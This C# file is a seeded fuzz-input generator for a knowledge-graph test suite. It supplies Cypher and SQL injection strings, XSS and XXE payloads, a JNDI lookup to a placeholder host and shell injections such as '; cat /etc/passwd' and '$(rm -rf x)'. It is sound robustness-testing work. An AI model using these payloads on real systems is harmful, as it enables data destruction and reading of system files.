using System.Globalization;
using System.Text;

namespace KnowledgeGraph.Reliability.Tests.Hostile;

/// <summary>Texts that break careless programs, by kind; seeded, so that an input that fails can be made again.</summary>
internal static class HostileText
{
    private static readonly string[] Cypher = ["'}) DETACH DELETE n //", "`) MATCH (n) SET n.x = 1 //", "{id: $id}", "CALL dbms.shutdown()", "\\u0027 RETURN 1 //", "UNWIND range(1, 1000000000) AS x"];
    private static readonly string[] Sql = ["'; DROP TABLE document; --", "\" OR 1=1 --", "1); ATTACH DATABASE '/etc/x' AS y; --", "%' ESCAPE '\\", "x'00'", "PRAGMA writable_schema = 1"];
    private static readonly string[] Markup = ["<script>alert(1)</script>", "</script><!--", "]]>", "<![CDATA[", "&lt;&#0;&#x110000;&bogus;", "<!ENTITY a SYSTEM \"file:///etc/passwd\">&a;", "<img src=x onerror=a()>", "--><b", "<?xml version='1.0'?>"];
    private static readonly string[] Template = ["{{7*7}}", "${jndi:ldap://a.example/x}", "<%= 7 * 7 %>", "#{7*7}", "{0}{1}{99999999999}", "%s%n%x%1000000d", "@(1+1)", "%title% %data%", "$(SolutionDir)"];
    private static readonly string[] Shell = ["$(rm -rf x)", "`id`", "; cat /etc/passwd", "| tee x", "&& reboot", "> /dev/null", "\u001b[2J\u001b]0;x\u0007", "../../../etc/passwd", "C:\\..\\con", "~root", "-rf", "=1+1", "@SUM(A1)"];
    private static readonly string[] Numbers = ["0", "-0", "1e999", "NaN", "Infinity", "999999999999999999999999999", "0x7FFFFFFF", "1,2,3,4,5.6.7.8", "31 February 2025", "0000-00-00", "9999-12-31", "the 99th century", "٣٤", "½ ⅞", "in 10000000000 years"];
    private static readonly string[] Bidi = ["\u202E", "\u202A", "\u2066", "\u2067", "\u200F", "\u061C", "\u202C", "\u2069"];
    private static readonly string[] Controls = ["\0", "\u0001", "\u0008", "\u000B", "\u000C", "\u001C", "\u001F", "\u007F", "\u0085", "\u009B", "\uFEFF", "\u200B", "\u2028", "\u2029", "\uFFFE", "\uFFFF", "\uFFFD"];
    private static readonly string[] Halves = ["\uD800", "\uDFFF", "\uDC00\uD800", "\uD83D", "x\uDE00"];
    private static readonly string[] Marks = ["\"", "“", "”", "‘", "’", "'", "«", "»", "„", "(", ")", "[", "]", "{", "}", "—", "…", "•"];
    private static readonly string[] Names = ["Mara Denn", "the Sevran army", "Port Ostrava", "Norland", "the ministry", "Ivo Brandt", "al-Sahrat", "rebels"];
    private static readonly string[] Frames =
    [
        "{0} attacked {1} on Monday.", "“{0},” said {1}.", "{1} said that {0} had met {1} in {0}.", "\"{0}\" and '{1}', officials said.", "{0} ({1}) left.", "In {0}, {1} shelled {0}.", "{0}'s {1} was arrested by {0}.",
        "VELIN, Dec. 3 ({0}) — {1} resigned.", "By {0} | December 3, 2025", "- {0}\n- {1}", "{0}",
    ];

    /// <summary>The kinds, in the order in which inputs take turns.</summary>
    public static IReadOnlyList<string> Kinds { get; } =
        ["cypher", "sql", "markup", "template", "shell", "numbers", "bidi", "controls", "halves", "marks", "combining", "one word", "blanks", "noise", "emoji", "nothing"];

    /// <summary>A text of a kind.</summary>
    /// <param name="kind">One of <see cref="Kinds"/>.</param>
    /// <param name="random">The source of chance.</param>
    /// <param name="length">About how many characters.</param>
    public static string Of(string kind, Random random, int length)
    {
        var text = new StringBuilder();
        while (text.Length < length || text.Length == 0) text.Append(Piece(kind, random, length)).Append(Chance(random, 3) ? " " : "");
        return text.ToString();
    }

    /// <summary>Sentences as news has them, in which names and quoted words are of a kind.</summary>
    public static string Sentences(string kind, Random random, int length)
    {
        var text = new StringBuilder();
        while (text.Length < length)
        {
            var frame = Pick(Frames, random).Replace("{0}", Word(kind, random), StringComparison.Ordinal).Replace("{1}", Word(kind, random), StringComparison.Ordinal);
            text.Append(frame).Append(Chance(random, 6) ? "\n\n" : " ");
        }

        return text.ToString();
    }

    private static string Word(string kind, Random random) => Chance(random, 2) ? Pick(Names, random) : Of(kind, random, random.Next(1, 40));

    private static string Piece(string kind, Random random, int length) => kind switch
    {
        "cypher" => Pick(Cypher, random),
        "sql" => Pick(Sql, random),
        "markup" => Pick(Markup, random),
        "template" => Pick(Template, random),
        "shell" => Pick(Shell, random),
        "numbers" => Pick(Numbers, random),
        "bidi" => Pick(Bidi, random) + Pick(Names, random),
        "controls" => Pick(Controls, random) + Pick(Names, random),
        "halves" => Pick(Halves, random) + Pick(Names, random),
        "marks" => Pick(Marks, random),
        "combining" => "e" + new string((char)random.Next(0x300, 0x370), Math.Clamp(length - 1, 1, 3000)),
        "one word" => new string((char)random.Next('a', 'z' + 1), Math.Max(1, length)),
        "blanks" => new string(" \t\n\r\u00A0\u2003\u3000"[random.Next(7)], random.Next(1, 60)) + "a",
        "noise" => string.Concat(Enumerable.Range(0, random.Next(1, 20)).Select(_ => (char)random.Next(1, 0xFFFF))),
        "emoji" => "👩\u200D👩\u200D👧🏽🇳🇴" + char.ConvertFromUtf32(random.Next(0x1F300, 0x1FA00)),
        "nothing" => Pick(Names, random) + random.Next(100).ToString(CultureInfo.InvariantCulture),
        _ => throw new ArgumentException(kind, nameof(kind)),
    };

    public static T Pick<T>(IReadOnlyList<T> of, Random random) => of[random.Next(of.Count)];

    public static bool Chance(Random random, int oneIn) => random.Next(oneIn) == 0;
}
